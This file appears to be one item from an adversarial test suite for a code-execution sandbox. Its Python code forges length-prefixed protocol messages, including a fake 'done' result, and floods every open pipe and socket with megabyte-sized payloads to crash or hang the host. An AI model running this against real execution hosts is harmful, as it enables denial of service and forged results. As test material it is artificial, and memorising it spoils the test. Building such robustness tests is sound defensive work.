# id: 425
# name: printed_by_millions
# category: protocol
# technique: forged pieces of printed text
# breach: bigout host_dead hang
# looks_like: the host keeps all of it
# baseline: credulous
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


piece = message('{"is": "printed", "n": %d, "text": "%s"}' % (RUN, 'A' * 1_000_000))
for _ in range(40):
    spray(piece)
